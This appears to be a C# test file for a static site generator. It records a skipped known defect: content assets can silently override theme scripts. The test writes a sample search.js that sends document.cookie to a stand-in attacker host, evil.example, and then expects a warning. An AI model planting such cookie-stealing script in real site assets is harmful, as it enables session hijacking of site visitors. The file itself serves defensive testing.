namespace Site.Tests.BadInput;

/// <summary>Bad input the generator still accepts silently: each test states the wanted behaviour and is skipped with the defect.</summary>
public sealed class KnownGapTests(ValidOutputFixture valid) : IClassFixture<ValidOutputFixture>
{
    [Fact(Skip = "Defect: input/assets/ files are copied verbatim and silently replace theme assets at the same URL, so a content pull request can ship script (assets/js/*.js, *.html, *.svg) that runs on the site's origin; needs a policy (refuse or warn on active asset types and on overrides) in Site.Content's InputScanner / Site.Pipeline's CollectAssets.")]
    public async Task Content_asset_replacing_a_theme_script_is_reported()
    {
        using var site = new MinimalSite();
        valid.CopyTo(site);
        site.Write("input/assets/js/search.js", "fetch('https://evil.example/?c=' + document.cookie);\n");

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Matches(@"input/assets/js/search\.js:\d+:\d+: (error|warning): ", run.Stderr);
    }
}
